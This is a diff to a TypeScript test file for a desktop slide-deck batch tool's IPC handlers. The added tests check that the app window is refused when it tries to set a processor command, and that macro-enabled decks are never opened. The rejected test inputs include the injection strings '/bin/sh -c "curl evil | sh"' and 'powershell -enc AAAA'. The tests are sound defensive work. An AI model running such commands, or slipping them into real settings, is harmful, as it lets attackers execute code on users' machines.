@@ -1,10 +1,11 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { createIpcHandlers } from '../../src/main/ipc-handlers';
 import { isLoopbackUrl, PAYLOAD_SCHEMAS } from '../../src/main/ipc-schemas';
-import { CHANNELS } from '../../src/shared/ipc';
+import { openSettingsStore } from '../../src/main/settings-store';
+import { CHANNELS, DEFAULT_APP_SETTINGS, PROCESSOR_FROM_SETTINGS_FILE_ONLY } from '../../src/shared/ipc';
 import { tempDir } from '../helpers/tmp';
 import { deps, RecordingEngine } from './stand-ins';
 
@@ -63,7 +64,7 @@ test('invalid payloads are refused before the engine sees them', async () => {
 test('createBatch uses the saved settings, overridden by the request', async () => {
   const e = new RecordingEngine();
   const d = deps();
-  d.settings.set({ workers: 4, outputDir: '/out', modelServer: 'http://127.0.0.1:11434', model: 'llava', processor: '' });
+  d.settings.set({ workers: 4, outputDir: '/out', modelServer: 'http://127.0.0.1:11434', model: 'llava' });
   const h = createIpcHandlers(e, d);
   await h['engine:createBatch']({ inputs: ['/decks'], settings: { workers: 1 } });
   const [, [req]] = e.calls[0] as [string, [{ inputs: string[]; settings: Record<string, unknown> }]];
@@ -72,6 +73,46 @@ test('createBatch uses the saved settings, overridden by the request', async () 
   assert.equal(req.settings.outputDir, '/out');
   assert.equal(req.settings.modelServer, 'http://127.0.0.1:11434');
   assert.equal('processor' in req.settings, false, 'empty processor = built-in');
+});
+
+test('the window can never set a processor command: settings:set and createBatch refuse it with a sentence', async (t) => {
+  const dir = tempDir(t);
+  const e = new RecordingEngine();
+  const d = deps({ settings: openSettingsStore(dir) });
+  const h = createIpcHandlers(e, d);
+  const attempts: Array<[keyof typeof h, unknown]> = [
+    ['settings:set', { processor: 'calc.exe' }],
+    ['settings:set', { workers: 2, processor: '/bin/sh -c "curl evil | sh"' }],
+    // even "back to the built-in one" is not the window's to say
+    ['settings:set', { processor: '' }],
+    ['engine:createBatch', { inputs: ['/decks'], settings: { processor: 'powershell -enc AAAA' } }],
+    ['engine:createBatch', { inputs: ['/decks'], settings: { processor: null } }],
+  ];
+  for (const [channel, payload] of attempts) {
+    await assert.rejects(
+      () => h[channel](payload),
+      (err: Error) => err.message.startsWith('INVALID_PAYLOAD') && err.message.includes(PROCESSOR_FROM_SETTINGS_FILE_ONLY),
+      `${channel} ${JSON.stringify(payload)}`,
+    );
+  }
+  assert.deepEqual(e.calls, [], 'the engine was never called');
+  assert.equal(existsSync(join(dir, 'settings.json')), false, 'nothing was saved');
+  assert.equal(d.settings.get().workers, DEFAULT_APP_SETTINGS.workers, 'a refused patch changes nothing, not even its valid keys');
+});
+
+test('a processor from the settings file (IT) reaches the batch; the window’s saves keep it', async (t) => {
+  const dir = tempDir(t);
+  writeFileSync(join(dir, 'settings.json'), JSON.stringify({ processor: 'school-processor --fast', workers: 3 }));
+  const e = new RecordingEngine();
+  const d = deps({ settings: openSettingsStore(dir) });
+  const h = createIpcHandlers(e, d);
+  assert.equal((await h['settings:get'](null)).processor, 'school-processor --fast', 'the window may show it');
+  await h['settings:set']({ workers: 1 });
+  assert.equal(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).processor, 'school-processor --fast');
+  await h['engine:createBatch']({ inputs: ['/decks'] });
+  const [, [req]] = e.calls[0] as [string, [{ settings: Record<string, unknown> }]];
+  assert.equal(req.settings.processor, 'school-processor --fast');
+  assert.equal(req.settings.workers, 1);
 });
 
 test('no new work while shutting down; reads still answer', async () => {
@@ -109,6 +150,24 @@ test('openPath opens decks, reports and folders only, and only ones that exist',
   await h['app:showInFolder']({ path: deck });
   assert.deepEqual(d.opened, [deck, join(dir, 'out')]);
   assert.deepEqual(d.shown, [deck]);
+});
+
+test('openPath never opens a macro-enabled deck: it shows it in its folder and says so', async (t) => {
+  const dir = tempDir(t);
+  const d = deps();
+  const h = createIpcHandlers(new RecordingEngine(), d);
+  const macro = ['Lecture 1.pptm', 'Show.PPSM', 'template.potm', 'addin.ppam'].map((n) => join(dir, n));
+  for (const f of macro) writeFileSync(f, 'x');
+  for (const f of macro) {
+    const said = await h['app:openPath']({ path: f });
+    assert.match(said, /does not open macro-enabled decks \(\.(pptm|ppsm|potm|ppam)\); it showed the file in its folder instead/);
+  }
+  assert.deepEqual(d.opened, [], 'none was opened');
+  assert.deepEqual(d.shown, macro, 'each was shown in its folder');
+  const plain = join(dir, 'Lecture 1.pptx');
+  writeFileSync(plain, 'x');
+  assert.equal(await h['app:openPath']({ path: plain }), '');
+  assert.deepEqual(d.opened, [plain]);
 });
 
 test('openOutputs opens the batch output folder once it exists', async (t) => {
